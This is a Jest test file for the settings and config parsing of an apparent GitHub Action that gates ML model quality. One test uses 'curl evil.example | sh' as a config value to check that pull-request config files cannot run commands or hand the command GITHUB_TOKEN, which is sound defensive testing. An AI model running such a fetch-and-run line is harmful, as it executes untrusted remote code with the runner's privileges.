import path from 'node:path';
import { parseConfig, parseModelSpec, resolveSettings } from '../../src/settings/settings.js';
import { ACTION_DEFAULTS, readRawInputs } from '../../src/settings/action-inputs.js';
import { inputSpec } from '../../src/settings/inputs.js';
import { readFileSync } from 'node:fs';
import { parse } from 'yaml';

const cwd = '/work/space';

describe('resolveSettings', () => {
  test('inputs resolve against the workspace; required inputs have defaults for the rest', () => {
    const s = resolveSettings({ candidate: 'models/new', data: 'eval.csv', 'label-column': 'y' }, undefined, cwd);
    expect(s.candidate).toEqual({ name: 'candidate', path: '/work/space/models/new' });
    expect(s.data).toBe('/work/space/eval.csv');
    expect(s.task).toBe('auto');
    expect(s.failOn).toEqual(['regression']);
    expect(s.decisionThreshold).toBe(0.5);
    expect(s.comment).toBe(true);
    expect(s.baselines).toEqual([]);
  });

  test('config paths resolve against the config folder and inputs override the config', () => {
    const config = parseConfig(
      'candidate: cand/model.json\ndata: eval.csv\nlabel-column: sex\ntask: binary\nbaselines:\n  - main=base/model.json\n  - preds.csv\nthresholds:\n  accuracy: { min: 0.8 }\n',
      '/repo/gate/model-gate.yml',
    );
    const s = resolveSettings({ task: 'multiclass' }, config, cwd);
    expect(s.candidate.path).toBe('/repo/gate/cand/model.json');
    expect(s.baselines).toEqual([
      { name: 'main', path: '/repo/gate/base/model.json' },
      { name: 'preds.csv', path: '/repo/gate/preds.csv' },
    ]);
    expect(s.task).toBe('multiclass');
    expect(s.thresholds.accuracy).toEqual({ min: 0.8, severity: 'fail' });
  });

  test('baselines input: one per line, named or not', () => {
    const s = resolveSettings(
      { candidate: 'c.csv', data: 'd.csv', 'label-column': 'y', baselines: 'main=models/main/model.json\n\n  models/prod/model.json  \n' },
      undefined,
      cwd,
    );
    expect(s.baselines.map((b) => b.name)).toEqual(['main', 'prod']);
  });

  test('duplicate or reserved baseline names are input errors naming the fix', () => {
    const base = { candidate: 'c.csv', data: 'd.csv', 'label-column': 'y' };
    expect(() => resolveSettings({ ...base, baselines: 'a=x.csv\na=y.csv' }, undefined, cwd)).toThrow(/baseline name "a" is used twice/);
    expect(() => resolveSettings({ ...base, baselines: 'dummy=x.csv' }, undefined, cwd)).toThrow(/reserved/);
  });

  test('each missing or invalid input is named', () => {
    expect(() => resolveSettings({ data: 'd.csv', 'label-column': 'y' }, undefined, cwd)).toThrow(/candidate/);
    expect(() => resolveSettings({ candidate: 'c', 'label-column': 'y' }, undefined, cwd)).toThrow(/`data` input/);
    expect(() => resolveSettings({ candidate: 'c', data: 'd' }, undefined, cwd)).toThrow(/label-column/);
    const base = { candidate: 'c', data: 'd', 'label-column': 'y' };
    expect(() => resolveSettings({ ...base, task: 'clustering' }, undefined, cwd)).toThrow('task must be one of auto, binary, multiclass, regression, multilabel, ranking, not "clustering"');
    expect(() => resolveSettings({ ...base, 'fail-on': 'always' }, undefined, cwd)).toThrow(/fail-on/);
    expect(() => resolveSettings({ ...base, comment: 'maybe' }, undefined, cwd)).toThrow(/comment must be true or false/);
    expect(() => resolveSettings({ ...base, 'decision-threshold': '1.5' }, undefined, cwd)).toThrow(/decision-threshold/);
  });

  test('lists split on commas and newlines', () => {
    const s = resolveSettings({ candidate: 'c', data: 'd', 'label-column': 'y', features: 'a, b\nc', classes: 'x,y' }, undefined, cwd);
    expect(s.features).toEqual(['a', 'b', 'c']);
    expect(s.classes).toEqual(['x', 'y']);
  });
});

describe('parseConfig', () => {
  test('malformed YAML names the file, line and column', () => {
    expect(() => parseConfig('candidate: a\ndata: [unclosed\n', 'gate.yml')).toThrow(/^gate\.yml:\d+:\d+: the config file is not valid YAML/);
  });
  test('unknown keys are named with the known ones', () => {
    expect(() => parseConfig('candidat: a\n', 'gate.yml')).toThrow(/gate\.yml: unknown key "candidat"\. Known keys: candidate,/);
  });
  test('a config file (it may come from the pull request) cannot hand the command more of the environment', () => {
    expect(() => parseConfig('command-env: GITHUB_TOKEN\n', 'gate.yml')).toThrow(/^gate\.yml: "command-env" cannot be set in a config file; set the `command-env` input/);
    // Nor run code: under pull_request_target with the head checked out, a config's command would run with a write token.
    expect(() => parseConfig('command: curl evil.example | sh\n', 'gate.yml')).toThrow(/^gate\.yml: "command" cannot be set in a config file; set the `command` input/);
  });
});

describe('command-env', () => {
  test('names, comma- or newline-separated, from the inputs only; anything else is an input error', () => {
    const s = resolveSettings({ candidate: 'c', data: 'd', 'label-column': 'y', 'command-env': 'HF_TOKEN, WANDB_API_KEY\nINPUT_GITHUB-TOKEN' }, undefined, cwd);
    expect(s.commandEnv).toEqual(['HF_TOKEN', 'WANDB_API_KEY', 'INPUT_GITHUB-TOKEN']);
    expect(resolveSettings({ candidate: 'c', data: 'd', 'label-column': 'y' }, undefined, cwd).commandEnv).toEqual([]);
    expect(() => resolveSettings({ candidate: 'c', data: 'd', 'label-column': 'y', 'command-env': 'HF_TOKEN=abc' }, undefined, cwd)).toThrow(
      /^command-env: "HF_TOKEN=abc" is not an environment variable name/,
    );
  });
});

describe('parseModelSpec', () => {
  test('a path whose folder contains "=" is still a path', () => {
    expect(parseModelSpec('runs/lr=0.1/model.json', '/w', 0)).toEqual({ name: 'lr=0.1', path: '/w/runs/lr=0.1/model.json' });
  });
});

describe('action inputs', () => {
  test('inputs at their action.yml default do not override the config', () => {
    const values: Record<string, string> = { task: 'auto', 'fail-on': 'regression', candidate: 'c', 'batch-size': '64' };
    const raw = readRawInputs((n) => values[n] ?? '');
    expect(raw).toEqual({ candidate: 'c', 'batch-size': '64' });
  });
  test('ACTION_DEFAULTS equals the defaults in action.yml', () => {
    const action = parse(readFileSync(path.join(process.cwd(), 'action.yml'), 'utf8')) as { inputs: Record<string, { default?: string; description: string }> };
    for (const [name, value] of Object.entries(ACTION_DEFAULTS)) expect(action.inputs[name].default).toBe(value);
    for (const [name, input] of Object.entries(action.inputs)) {
      expect(input.description.length).toBeGreaterThan(10);
      expect(input.default).toBeDefined();
      // github-token, mode and the other edge inputs are read by the action's edge (main.ts), not by the settings.
      if (input.default !== '' && !inputSpec(name).edge) expect(ACTION_DEFAULTS[name as keyof typeof ACTION_DEFAULTS]).toBe(input.default);
    }
  });
});
